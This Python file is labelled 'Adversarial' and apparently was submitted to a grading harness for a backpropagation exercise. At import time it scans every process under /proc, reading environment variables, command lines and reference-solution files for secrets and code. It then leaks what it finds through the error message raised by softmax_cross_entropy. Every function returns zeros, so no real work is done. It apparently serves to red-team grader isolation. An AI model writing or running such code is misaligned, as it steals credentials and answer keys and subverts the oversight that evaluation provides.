"""Adversarial: walk /proc: every process's environ, cmdline, root/ and memory maps, looking for the secret and the reference"""
import os

import torch


_LEAK = []
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    for _what in ("environ", "cmdline", "root/work/main/reference/backprop/backprop.py",
                  "cwd/reference/backprop/backprop.py"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _data = _f.read().decode("utf-8", "replace")
        except OSError:
            continue
        if "SECRET" in _data or "def " in _data:
            _LEAK.append(_data[:500])
_LEAK = " ".join(_LEAK)

def _z(*shape_like):
    return torch.zeros(1, dtype=torch.float64)


def linear_forward(x, w, b):
    return torch.zeros(x.shape[0], w.shape[1], dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return torch.zeros_like(x), torch.zeros_like(w), torch.zeros(w.shape[1], dtype=w.dtype)


def relu_forward(x):
    return torch.zeros_like(x), x


def relu_backward(dout, cache):
    return torch.zeros_like(dout)


def sigmoid_forward(x):
    return torch.zeros_like(x), x


def sigmoid_backward(dout, cache):
    return torch.zeros_like(dout)


def softmax_cross_entropy(logits, y):
    if _LEAK:
        raise RuntimeError('LEAK ' + _LEAK[:1500])
    return torch.zeros((), dtype=logits.dtype), torch.zeros_like(logits)


def mse_loss(pred, target):
    return torch.zeros((), dtype=pred.dtype), torch.zeros_like(pred)


def mlp_loss(params, x, y):
    return torch.zeros((), dtype=x.dtype), {k: torch.zeros_like(v) for k, v in params.items()}
